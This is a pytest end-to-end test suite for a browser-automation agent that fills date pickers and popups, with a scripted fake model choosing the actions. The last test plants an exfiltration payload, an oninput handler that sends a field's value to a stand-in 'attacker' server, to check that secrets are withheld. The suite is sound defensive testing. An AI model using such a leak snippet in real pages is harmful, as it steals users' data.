"""Pickers and popups end to end: a real worker and Chromium, the scripted model choosing
every element by what the prompt shows and reacting to the last step's result.

Pages: tests/support/pickers.py. Every assertion that matters is on what the page's own
form sent to the test server (``Site.forms``), not on what an action said it did.
"""

from __future__ import annotations

import json
import re
from collections.abc import Iterator
from typing import Any

import pytest

from shared.models import TaskStatus, TaskView
from tests.e2e.helpers import run, script_id
from tests.support.fake_llm import Call, FakeLLM, Script, step
from tests.support.pickers import JQUI, MORE_PAGES, OUTER, PAGES, SECRET
from tests.support.site import Site

pytestmark = pytest.mark.usefixtures("worker")

@pytest.fixture(autouse=True)
def _pages(site: Site) -> Iterator[None]:
    site.pages.update(PAGES)
    site.pages.update(MORE_PAGES)
    yield


def done(text: str = "done", success: bool = True) -> str:
    return step({"done": {"text": text, "success": success}})


def page_text(call: Call) -> str:
    return call.page_text


def last_result(call: Call) -> str:
    return call.last_result


def listed(call: Call, pattern: str) -> bool:
    return any(re.search(pattern, body) for _, _, body in call.elements())


def _run(producer: Any, fake_llm: FakeLLM, site: Site, name: str, path: str, script: Script,
         **extra: Any) -> tuple[TaskView, list[dict[str, str]], list[Call]]:
    """Run a task on ``path``; the view, the forms the site received meanwhile, the model's calls."""
    sid = script_id(name)
    marker = fake_llm.script(sid, script)
    before = len(site.forms)
    start = path if path.startswith("http") else site.url + path
    view = run(producer, {"task": f"Fill in the form. {marker}", "startUrl": start, "vision": False,
                          "maxSteps": 12, **extra})
    assert view.status == TaskStatus.finished, view.error
    return view, [form for _, form in site.forms[before:]], fake_llm.calls[sid]


def results(view: TaskView) -> list[list[str]]:
    return [s.results for s in view.steps]


def test_a_readonly_date_a_year_away_is_set_in_one_step(producer, fake_llm, site) -> None:
    """jQuery-UI-like: the calendar starts at December 2026; walking it to November 2027 was a
    dozen steps. The field shows mm/dd/yyyy: the ISO date is written in it, and the picker's
    own keyup parsing fills the ISO field the form also sends."""

    def script(call: Call) -> str:
        if "Received" in page_text(call):
            return done()
        if call.index == 0:
            return step({"input": {"index": call.index_of("label=Check-in"), "text": "2027-11-18"}},
                        {"click": {"index": call.index_of("<button type=submit>Submit booking")}})
        return done(f"unexpected: {last_result(call)}", success=False)

    view, forms, _ = _run(producer, fake_llm, site, "jqui", "/pickers/jqui", script)
    assert view.is_success, results(view)
    assert forms == [{"guest": "Ada", "checkin": "11/18/2027", "checkin_iso": "2027-11-18"}], results(view)
    assert len(view.steps) == 2
    assert results(view)[0][0].startswith("set [1] to '11/18/2027' as its picker would (readonly field;")


def test_a_typed_date_is_written_in_the_fields_format_and_its_keyup_parsed(producer, fake_llm, site) -> None:
    """The same jQuery-UI-like picker on a field that takes typing: the date is typed in the
    field's mm/dd/yyyy, and the picker hears the keyup that ends typing (it fills the ISO
    field from it); its calendar, opened by the focus, covers Submit and is closed by the
    click."""
    site.pages["/pickers/jqui-typed"] = JQUI.replace(" readonly ", " ")

    def script(call: Call) -> str:
        if "Received" in page_text(call):
            return done()
        if call.index == 0:
            return step({"input": {"index": call.index_of("label=Check-in"), "text": "18 Nov 2027"}},
                        {"click": {"index": call.index_of("<button type=submit>Submit booking")}})
        return done(f"unexpected: {last_result(call)}", success=False)

    view, forms, _ = _run(producer, fake_llm, site, "jqui-typed", "/pickers/jqui-typed", script)
    assert view.is_success, results(view)
    assert forms == [{"guest": "Ada", "checkin": "11/18/2027", "checkin_iso": "2027-11-18"}], results(view)
    typed, clicked = results(view)[0]
    assert typed == "typed '11/18/2027' into [1]; '18 Nov 2027' written as MM/DD/YYYY, the field's format"
    # (opened after the state was read: named by its tag and text, not an index)
    assert re.fullmatch(r"closed <div id=ui-datepicker-div>PrevNextNovember 2027 1 2 3 4 5 6 7 8 9 that "
                        r"covered it \(Escape\), then clicked \[2\]", clicked), clicked


def test_a_react_field_keeps_a_set_date_and_one_that_reverts_falls_back_to_its_picker(
    producer, fake_llm, site
) -> None:
    """React's value tracker sees the change only through the element's own setter; the slot
    field reverts anything not chosen from its list, so the action says so and the model
    uses the list. The form posts the app's state."""

    def script(call: Call) -> str:
        if "Received" in page_text(call):
            return done()
        submit = {"click": {"index": call.index_of("<button type=submit>Place order")}}
        if call.index == 0:
            date, slot = call.index_of('label="Delivery date"'), call.index_of('label="Delivery slot"')
            return step({"input": {"index": date, "text": "March 10, 2027"}},
                        {"input": {"index": slot, "text": "Tue 13-17"}})
        if listed(call, r"<li role=option>Tue 13-17"):
            return step({"click": {"index": call.index_of(r"<li role=option>Tue 13-17")}}, submit)
        if "open its picker" in last_result(call):
            return step({"click": {"index": call.index_of('label="Delivery slot"')}})
        return done(f"unexpected: {last_result(call)}", success=False)

    view, forms, _ = _run(producer, fake_llm, site, "react", "/pickers/react", script)
    assert view.is_success, results(view)
    assert forms == [{"date": "2027-03-10", "slot": "tue-pm"}], results(view)
    date, slot = results(view)[0]
    assert date.startswith("set [0] to '03/10/2027' as its picker would"), date
    assert "did not keep 'Tue 13-17' (it went back to '')" in slot and "open its picker" in slot, slot


def test_native_inputs_take_the_formats_the_page_shows(producer, fake_llm, site) -> None:
    """A British page: the departure's label says DD/MM/YYYY; the return date has no hint while
    the browser shows MM/DD/YYYY and the page's language writes day first, so 04/05/2027 is
    ambiguous and refused with both readings; times, months and weeks in words."""
    first = {"depart": "05/03/2027", "return": "04/05/2027", "pickup": "3:45 pm", "expiry": "March 2027"}

    def script(call: Call) -> str:
        if "Received" in page_text(call):
            return done()
        submit = {"click": {"index": call.index_of("<button type=submit>Save trip")}}
        if call.index == 0:
            return step(*({"input": {"index": call.index_of(f"name={name}"), "text": text}}
                          for name, text in first.items()))
        if "is ambiguous" in last_result(call):
            return step({"input": {"index": call.index_of("name=return"), "text": "4 May 2027"}},
                        {"input": {"index": call.index_of("name=pickup"), "text": first["pickup"]}},
                        {"input": {"index": call.index_of("name=expiry"), "text": first["expiry"]}},
                        {"input": {"index": call.index_of("name=week"), "text": "2027-03-05"}}, submit)
        return done(f"unexpected: {last_result(call)}", success=False)

    view, forms, _ = _run(producer, fake_llm, site, "native", "/pickers/native", script)
    assert view.is_success, results(view)
    assert forms == [{"depart": "2027-03-05", "return": "2027-05-04", "pickup": "15:45", "expiry": "2027-03",
                      "week": "2027-W09"}], results(view)
    depart, ambiguous = results(view)[0]
    assert "read as DD/MM/YYYY, the field's format" in depart
    assert "'04/05/2027' is ambiguous" in ambiguous and "2027-05-04 or 2027-04-05" in ambiguous
    assert "page's language writes DD/MM/YYYY" in ambiguous


def test_a_picker_whose_hidden_field_did_not_follow_is_not_taken_as_set(producer, fake_llm, site) -> None:
    """flatpickr-like altInput: only the calendar fills the hidden field the form sends. The
    value stays in the visible field, but the action must not call that a success."""

    def script(call: Call) -> str:
        if "Received" in page_text(call):
            return done()
        if call.index == 0:
            return step({"input": {"index": call.index_of("label=Day"), "text": "2026-12-20"}},
                        {"click": {"index": call.index_of("<button type=submit>Book")}})
        if listed(call, 'aria-label="December 20, 2026"'):
            return step({"click": {"index": call.index_of('aria-label="December 20, 2026"')}},
                        {"click": {"index": call.index_of("<button type=submit>Book")}})
        if "open its picker" in last_result(call):
            return step({"click": {"index": call.index_of("label=Day")}})
        return done(f"unexpected: {last_result(call)}", success=False)

    view, forms, _ = _run(producer, fake_llm, site, "alt", "/pickers/alt", script)
    assert view.is_success, results(view)
    assert forms == [{"date": "2026-12-20"}], results(view)  # never an empty booking
    refused = results(view)[0][0]
    assert "hidden field 'date' beside it is still empty" in refused and "open its picker" in refused, refused


def test_a_popup_left_open_over_submit_is_closed_by_the_click(producer, fake_llm, site) -> None:
    """The topics list stays open after each choice, over Subscribe, and listens for Escape
    only on its field while focus sits on the clicked option: the choice and the submit
    take one step, and the click says how it got through."""

    def script(call: Call) -> str:
        if "Received" in page_text(call):
            return done()
        if call.index == 0:
            return step({"click": {"index": call.index_of("label=Topics")}})
        if call.index == 1:
            return step({"click": {"index": call.index_of("<li role=option>Science")}},
                        {"click": {"index": call.index_of("<li role=option>Travel")}},
                        {"click": {"index": call.index_of("<button type=submit>Subscribe")}})
        return done(f"unexpected: {last_result(call)}", success=False)

    view, forms, _ = _run(producer, fake_llm, site, "stays", "/pickers/stays-open", script)
    assert view.is_success, results(view)
    assert forms == [{"topics": "Science,Travel"}], results(view)
    assert len(view.steps) == 3  # open; choose twice and submit; done
    subscribed = results(view)[1][-1]
    assert re.fullmatch(r"closed \[\d+\]<ul id=topics-list> that covered it \(Escape\), "
                        r"then clicked \[\d+\]", subscribed), subscribed


def test_escape_reaches_the_field_a_popup_listens_on(producer, fake_llm, site) -> None:
    """``send_keys Escape`` with focus on a clicked option: the list listens on its field, so
    the key is delivered there and the list closes."""

    def script(call: Call) -> str:
        if call.index == 0:
            return step({"click": {"index": call.index_of("label=Topics")}})
        if call.index == 1:
            return step({"click": {"index": call.index_of("<li role=option>Music")}},
                        {"send_keys": {"keys": "Escape"}})
        closed = not listed(call, r"<li role=option>Music")
        return done(f"list closed: {closed}", success=closed)

    view, _, _ = _run(producer, fake_llm, site, "escape", "/pickers/stays-open", script)
    assert view.is_success and view.output == "list closed: True", results(view)
    pressed = results(view)[1][-1]
    assert re.fullmatch(r"pressed Escape on \[0\]<input role=combobox .*label=Topics> \(its popup was open\)",
                        pressed), pressed


def test_a_popup_that_will_not_close_is_named_by_its_root(producer, fake_llm, site) -> None:
    """A menu that only its own Close button closes covers Export: the click tries Escape and a
    click outside, then names the menu (not a cell of it) and the button it belongs to."""

    def script(call: Call) -> str:
        if "Received" in page_text(call):
            return done()
        export = {"click": {"index": call.index_of("<button type=submit>Export now")}}
        if call.index == 0:
            return step({"click": {"index": call.index_of(r"<a>json$")}}, export)
        if "covered by" in last_result(call):
            return step({"click": {"index": call.index_of("<button type=button>Close")}}, export)
        return done(f"unexpected: {last_result(call)}", success=False)

    view, forms, _ = _run(producer, fake_llm, site, "stubborn", "/pickers/stubborn", script)
    assert view.is_success, results(view)
    assert forms == [{"format": "json"}], results(view)
    covered = results(view)[0][-1]
    assert re.match(r"error: could not click \[\d+\]: it is covered by \[\d+\]<div id=menu>, the popup of "
                    r"\[\d+\]<button type=button>Format: \w+, which stayed open after Escape and a click "
                    r"outside it", covered), covered


def test_guarded_fields_a_field_that_navigates_and_a_field_in_a_cross_site_frame(
    producer, fake_llm, site
) -> None:
    """A page whose value setter and focus() throw; a field whose change submits the form
    mid-action; a field inside a frame of another site. Each gets its value, and the forms
    the server received hold it."""
    port = site.url.rsplit(":", 1)[1]
    site.pages["/pickers/outer"] = OUTER.format(inner=f"http://localhost:{port}/pickers/inner")
    steps = [
        ("/pickers/hostile", "label=Arrival", "2027-01-02", "<button type=submit>Send"),
        ("/pickers/navigates", "label=\"Leave on\"", "2027-01-05", None),
        ("/pickers/outer", "label=Day", "2027-02-14", "<button type=submit>Send day"),
    ]
    for path, field, text, button in steps:

        def script(call: Call, field: str = field, text: str = text, button: str | None = button) -> str:
            if "Received" in page_text(call):
                return done()
            if call.index == 0:
                actions: list[dict[str, Any]] = [{"input": {"index": call.index_of(field), "text": text}}]
                if button:
                    actions.append({"click": {"index": call.index_of(button)}})
                return step(*actions)
            if call.index < 6:  # a frame's own form posts without the page's URL changing
                return step({"wait": {"seconds": 0.5}})
            return done(f"unexpected: {last_result(call)}", success=False)

        view, forms, _ = _run(producer, fake_llm, site, "hostile", path, script)
        assert view.is_success, (path, results(view))
        assert len(forms) == 1, (path, forms)
        set_result = results(view)[0][0]
        if path == "/pickers/hostile":
            assert forms[0] == {"arrival": "2027-01-02"}, set_result
        elif path == "/pickers/navigates":  # the action may see the page leave, or finish first
            assert forms[0] == {"leave": "2027-01-05"}
            assert set_result.startswith("set [0] to '2027-01-05' as its picker would"), set_result
        else:
            assert forms[0] == {"day": "14.02.2027"}, set_result  # written in the frame's format


def test_a_secret_goes_into_a_picker_field_only_where_secrets_may_go(producer, fake_llm, site) -> None:
    """A readonly date-of-birth field takes a secret through every check of the secret path;
    the same field in a sandboxed frame that would leak it gets nothing; the value never
    reaches the model."""
    attacker = Site()
    attacker_url = attacker.start()
    try:
        leaky = (f'<input readonly placeholder="Sandboxed DOB" '
                 f'oninput="new Image().src=\'{attacker_url}/leak?\'+this.value">')
        sid = script_id("secret-dob")
        site.pages[f"/pickers/secret-{sid}"] = SECRET.format(frame=leaky.replace('"', "&quot;"))
        dob = "1990-05-17"

        def script(call: Call) -> str:
            if "Received" in page_text(call):
                return done()
            if call.index == 0:
                return step({"input": {"index": call.index_of("placeholder=\"Sandboxed DOB\""),
                                       "text": "<secret>dob</secret>"}})
            if call.index == 1:
                return step({"input": {"index": call.index_of("label=\"Date of birth\""),
                                       "text": "<secret>dob</secret>"}},
                            {"click": {"index": call.index_of("<button type=submit>Save profile")}})
            return done(f"unexpected: {last_result(call)}", success=False)

        view, forms, calls = _run(producer, fake_llm, site, "secret", f"/pickers/secret-{sid}", script,
                                  secrets={"dob": dob})
    finally:
        attacker.stop()
    assert view.is_success, results(view)
    assert forms == [{"dob": dob}], results(view)
    assert attacker.log == []
    refused, typed = results(view)[0][0], results(view)[1][0]
    assert "secrets are not typed into a sandboxed frame" in refused, refused
    assert typed.endswith("typed '<secret>dob</secret>' into [0] as its picker would (readonly field)"), typed
    for call in calls:
        assert dob not in json.dumps(call.body)
    assert dob not in view.model_dump_json()
